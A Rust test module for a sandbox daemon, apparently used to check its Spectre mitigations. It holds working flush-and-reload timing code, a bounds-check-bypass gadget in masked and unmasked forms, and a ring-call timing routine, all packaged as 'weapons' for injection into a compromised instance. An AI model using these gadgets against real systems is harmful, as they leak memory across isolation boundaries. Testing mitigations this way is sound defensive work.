//! Looking at the processor's caches: the tools of an attack by speculative execution, for this process and for an instance that
//! has been taken over.
//!
//! All of it is flush and reload: a line of memory is thrown out of the caches, something happens, and how long the line takes to read
//! tells whether that something touched it.

use std::arch::{asm, global_asm};

use ipc::job::{ARENA_OFFSET, COMPLETIONS_OFFSET, INDICES_OFFSET, JOB_OFFSET, SUBMISSIONS_OFFSET};
use ipc::layout::RING_BASE;

use crate::attacker::Weapon;

/// Bytes between two lines of a probe, so that no prefetcher mistakes one for the neighbour of the other.
pub const STRIDE: usize = 2048;

/// Throws the line at `address` out of all caches.
#[inline(always)]
pub fn flush(address: *const u8) {
    // SAFETY: `clflush` changes no memory, and `address` is mapped wherever this is used; a fault would end the test.
    unsafe { asm!("clflush [{0}]", "mfence", in(reg) address, options(nostack, preserves_flags)) };
}

/// Cycles that reading the byte at `address` takes.
#[inline(always)]
pub fn time(address: *const u8) -> u64 {
    let (low, high): (u64, u64);
    // SAFETY: reads a byte that is mapped wherever this is used.
    unsafe {
        asm!("mfence", "lfence", "rdtsc", "lfence",
            "shl rdx, 32", "or rax, rdx", "mov {start}, rax",
            "movzx eax, byte ptr [{address}]",
            "lfence", "rdtsc", "shl rdx, 32", "or rax, rdx",
            address = in(reg) address, start = out(reg) low, out("rax") high, out("rdx") _,
            options(nostack));
    }
    high.wrapping_sub(low)
}

/// Numbers from 0 to 7 in an order that no branch predictor learns, as the gadgets have them.
#[derive(Debug, Default)]
pub struct Order(u32);

impl Order {
    /// The next number.
    #[inline(always)]
    pub fn draw(&mut self) -> u32 {
        self.0 = self.0.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        self.0 >> 29
    }
}

/// What a reload takes that tells a line in a near cache from one in memory: between the shortest of each.
pub fn threshold() -> u64 {
    let line = Box::new([0u8; 4096]);
    let address = line.as_ptr();
    let shortest = |prepare: &dyn Fn()| {
        let times = (0..1000).map(|_| {
            prepare();
            time(address)
        });
        times.min().unwrap_or(0)
    };
    let far = shortest(&|| flush(address));
    let near = shortest(&|| {
        time(address);
    });
    near + (far.saturating_sub(near)) / 2
}

// `sandboxd_test_gadget`(bound: *const u64, table, index, probe, bit, threshold): reads one bit of `table[index]` behind a bounds
// check that fails for `index`, and has passed seven times out of eight for others. `sandboxd_test_masked_gadget` has the mask that
// `ipc::nospec` makes between check and access. Both answer how often, of 512 attempts or so, the line of a one was near.
macro_rules! gadget {
    ($name:literal, $mask:literal) => {
        global_asm!(
            concat!(".globl ", $name), concat!($name, ":"),
            "push rbx", "push rbp", "push r12", "push r13", "push r14", "push r15",
            "mov r14, rdx",             // the index
            "mov rbp, rcx",             // the probe
            "mov ecx, r8d",             // the bit
            "xor r15d, r15d",           // how often
            "mov r12d, 4096",
            "2:",
            "clflush [rdi]",
            "clflush [rbp + {stride}]",
            "mfence", "lfence",
            // About every eighth index is the one out of bounds: in an order that no predictor learns, and chosen without a branch,
            // which would give it away.
            "imul r8d, r8d, 1664525", "add r8d, 1013904223", "mov r10d, r8d", "shr r10d, 29",
            "cmp r10, 1", "sbb r11, r11",
            "mov rax, r14", "xor rax, r10", "and rax, r11", "xor rax, r10",
            "mov rbx, [rdi]",           // comes late: the check is predicted meanwhile
            "cmp rax, rbx",
            "jae 3f",
            $mask,
            "movzx ebx, byte ptr [rsi + rax]",
            "shr ebx, cl", "and ebx, 1", "imul ebx, ebx, {stride}",
            "mov ebx, [rbp + rbx]",
            "3:",
            "test r11, r11",
            "jz 4f",
            "mfence", "lfence", "rdtsc", "lfence", "mov r13d, eax",
            "mov ebx, [rbp + {stride}]",
            "lfence", "rdtsc", "sub eax, r13d",
            "cmp eax, r9d", "adc r15d, 0",
            "4:",
            "dec r12d",
            "jnz 2b",
            "mov eax, r15d",
            "pop r15", "pop r14", "pop r13", "pop r12", "pop rbp", "pop rbx",
            "ret",
            concat!(".globl ", $name, "_end"), concat!($name, "_end:"),
            stride = const STRIDE,
        );
    };
}
gadget!("sandboxd_test_gadget", "");
gadget!("sandboxd_test_masked_gadget", "cmp rax, rbx; sbb rbx, rbx; and rax, rbx");

// `sandboxd_test_time`(address): cycles of one read, after which the line is flushed.
global_asm!(
    ".globl sandboxd_test_time",
    "sandboxd_test_time:",
    "mfence",
    "lfence",
    "rdtsc",
    "lfence",
    "mov r8d, eax",
    "movzx r9d, byte ptr [rdi]",
    "lfence",
    "rdtsc",
    "sub eax, r8d",
    "clflush [rdi]",
    "mfence",
    "ret",
    ".globl sandboxd_test_time_end",
    "sandboxd_test_time_end:",
);

// `sandboxd_test_threshold`(address): as `threshold`, inside an instance.
global_asm!(
    ".globl sandboxd_test_threshold",
    "sandboxd_test_threshold:",
    "mov r10d, 2000",
    "mov r11d, -1",
    "mov esi, -1",
    "2:",
    "mfence",
    "lfence",
    "rdtsc",
    "lfence",
    "mov r8d, eax",
    "movzx r9d, byte ptr [rdi]",
    "lfence",
    "rdtsc",
    "sub eax, r8d",
    // Read after a flush every second time.
    "test r10d, 1",
    "jz 3f",
    "cmp eax, r11d",
    "cmovb r11d, eax",
    "jmp 4f",
    "3:",
    "cmp eax, esi",
    "cmovb esi, eax",
    "clflush [rdi]",
    "4:",
    "dec r10d",
    "jnz 2b",
    "lea eax, [r11 + rsi]",
    "shr eax, 1",
    "ret",
    ".globl sandboxd_test_threshold_end",
    "sandboxd_test_threshold_end:",
);

// `sandboxd_test_ask`(function, first argument, second argument, address, bytes): one host call over the ring, made as the shim
// makes it, but for one thing: it says all the time that it sleeps, so that it is woken whenever it does. Before it so many bytes of the arena are read, which drives out what else is in the near caches of this core. Answers the error number, times 2^32, plus the cycles that reading `address` then takes, which was flushed before.
global_asm!(
    ".globl sandboxd_test_ask",
    "sandboxd_test_ask:",
    "push rbx", "push r12", "push r13",
    "mov r13, rcx",
    "mov r12d, {indices}",
    "mov dword ptr [r12 + {sleeping}], 1",
    "mov r9d, [r12]",
    "mov eax, r9d", "and eax, 63", "shl eax, 7", "add eax, {submissions}",
    "mov [rax], edi", "mov dword ptr [rax + 4], 1", "mov [rax + 8], rsi", "mov [rax + 16], rdx",
    "mov ebx, [r12 + 192]",
    "4:", "sub r8, 64", "jb 5f", "mov eax, [r8 + {arena}]", "jmp 4b", "5:",
    "clflush [r13]", "mfence",
    "inc r9d", "mov [r12], r9d",
    "mov eax, 1", "mov edi, 3", "mov esi, {word}", "mov edx, 8", "syscall",
    "2:",
    "mov eax, [r12 + 128]", "cmp eax, ebx", "jne 3f",
    "mov eax, 202", "lea rdi, [r12 + 128]", "xor esi, esi", "mov edx, ebx", "xor r10d, r10d", "syscall",
    "jmp 2b",
    "3:",
    "mfence", "lfence", "rdtsc", "lfence", "mov r8d, eax",
    "movzx r9d, byte ptr [r13]",
    "lfence", "rdtsc", "sub eax, r8d",
    "mov ecx, ebx", "and ecx, 63", "shl ecx, 6", "mov ecx, [rcx + {completions} + 4]",
    "inc ebx", "mov [r12 + 192], ebx",
    "shl rcx, 32", "or rax, rcx",
    "pop r13", "pop r12", "pop rbx",
    "ret",
    ".globl sandboxd_test_ask_end",
    "sandboxd_test_ask_end:",
    indices = const RING_BASE as usize + INDICES_OFFSET,
    sleeping = const core::mem::offset_of!(ipc::ring::Indices, sleeping),
    submissions = const RING_BASE as usize + SUBMISSIONS_OFFSET,
    completions = const RING_BASE as usize + COMPLETIONS_OFFSET,
    arena = const RING_BASE as usize + ARENA_OFFSET,
    word = const RING_BASE as usize + JOB_OFFSET,
);

/// How often a gadget tries, about.
pub const ATTEMPTS: u32 = 512;

/// A gadget as a function of this process. `table[index]` for an index below `*bound` has a 0 in that bit; the probe has at least
/// two [`STRIDE`]s.
pub type Gadget = unsafe extern "sysv64" fn(
    bound: *const u64,
    table: *const u8,
    index: usize,
    probe: *const u8,
    bit: u32,
    threshold: u32,
) -> u32;

unsafe extern "sysv64" {
    fn sandboxd_test_gadget(_: *const u64, _: *const u8, _: usize, _: *const u8, _: u32, _: u32) -> u32;
    fn sandboxd_test_masked_gadget(
        _: *const u64,
        _: *const u8,
        _: usize,
        _: *const u8,
        _: u32,
        _: u32,
    ) -> u32;
    static sandboxd_test_gadget_end: u8;
    static sandboxd_test_time: u8;
    static sandboxd_test_time_end: u8;
    static sandboxd_test_threshold: u8;
    static sandboxd_test_threshold_end: u8;
    static sandboxd_test_ask: u8;
    static sandboxd_test_ask_end: u8;
}

/// The gadget without a mask.
pub const GADGET: Gadget = sandboxd_test_gadget;
/// The gadget with the mask of `ipc::nospec`.
pub const MASKED_GADGET: Gadget = sandboxd_test_masked_gadget;

pub(crate) fn code(start: *const u8, end: *const u8) -> Vec<u8> {
    let length = end.addr() - start.addr();
    // SAFETY: both are labels of one block of assembly of this crate, which is mapped and readable.
    unsafe { std::slice::from_raw_parts(start, length) }.to_vec()
}

/// Weapons made of this code. It is independent of where it lies.
pub(crate) fn weapons() -> Vec<Weapon> {
    let weapon = |name, parameters, start, end| Weapon { name, parameters, code: code(start, end) };
    let counter = |name, instruction: &[u8]| {
        // shl rdx, 32; or rax, rdx; ret
        let code = [instruction, &[0x48, 0xc1, 0xe2, 0x20, 0x48, 0x09, 0xd0, 0xc3]].concat();
        Weapon { name, parameters: 0, code }
    };
    vec![
        weapon("time", 1, &raw const sandboxd_test_time, &raw const sandboxd_test_time_end),
        weapon("threshold", 1, &raw const sandboxd_test_threshold, &raw const sandboxd_test_threshold_end),
        weapon("ask", 5, &raw const sandboxd_test_ask, &raw const sandboxd_test_ask_end),
        weapon("gadget", 6, GADGET as *const u8, &raw const sandboxd_test_gadget_end),
        counter("rdtsc", &[0x0f, 0x31]),
        counter("rdtscp", &[0x0f, 0x01, 0xf9]),
        // xor ecx, ecx; rdpmc
        counter("rdpmc", &[0x31, 0xc9, 0x0f, 0x33]),
        // Never executed: lines to look at, far from everything else.
        Weapon { name: "lines", parameters: 0, code: vec![0xcc; 8192] },
    ]
}
